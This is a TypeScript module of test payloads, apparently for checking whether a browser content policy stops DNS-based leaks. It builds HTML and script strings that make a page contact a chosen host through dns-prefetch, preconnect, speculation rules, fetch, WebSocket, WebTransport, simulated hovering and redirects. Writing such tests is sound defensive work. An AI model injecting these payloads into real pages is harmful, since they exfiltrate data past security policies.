/** Content that makes the browser look up a name, and so leaks what the name contains; no request has to succeed. */
export function tellsNames(host: string): Record<string, string> {
  const script = (code: string) => `<b>text</b><script>${code}</script>`;
  const link = (rel: string) =>
    script(
      `const l = document.createElement("link"); l.rel = "${rel}"; l.href = "http://${host}/"; document.head.append(l)`,
    );
  return {
    "dns-prefetch": `<b>text</b><link rel="dns-prefetch" href="//${host}">`,
    "dns-prefetch by a script": link("dns-prefetch"),
    preconnect: `<b>text</b><link rel="preconnect" href="http://${host}">`,
    "preconnect by a script": link("preconnect"),
    "prefetch by a script": link("prefetch"),
    "prerender by a script": link("prerender"),
    "prefetch control": `<b>text</b><meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//${host}"><a href="http://${host}/">a</a>`,
    "speculation rules": script(
      `const s = document.createElement("script"); s.type = "speculationrules"; s.text = JSON.stringify({ prefetch: [{ source: "list", urls: ["http://${host}/"], eagerness: "immediate" }] }); document.body.append(s)`,
    ),
    picture: `<b>text</b><img src="http://${host}/a.png">`,
    request: script(`fetch("http://${host}/", { mode: "no-cors" }).catch(() => {})`),
    socket: script(`try { new WebSocket("ws://${host}/") } catch {}`),
    transport: script(`try { new WebTransport("https://${host}/").ready.catch(() => {}) } catch {}`),
    "link under the pointer": script(
      `const a = document.createElement("a"); a.href = "http://${host}/"; a.textContent = "a"; document.body.append(a); for (const t of ["pointerover", "mouseover", "pointerdown", "mousedown", "touchstart"]) a.dispatchEvent(new Event(t, { bubbles: true }))`,
    ),
  };
}

/** Content that navigates: the policy stops the new page, but the browser may already have looked up its host. */
export function goesElsewhere(host: string): Record<string, string> {
  return {
    location: `<b>text</b><script>location.href = "http://${host}/"</script>`,
    "meta refresh": `<b>text</b><meta http-equiv="refresh" content="0;url=http://${host}/">`,
    "location.replace": `<b>text</b><script>location.replace("http://${host}/")</script>`,
  };
}
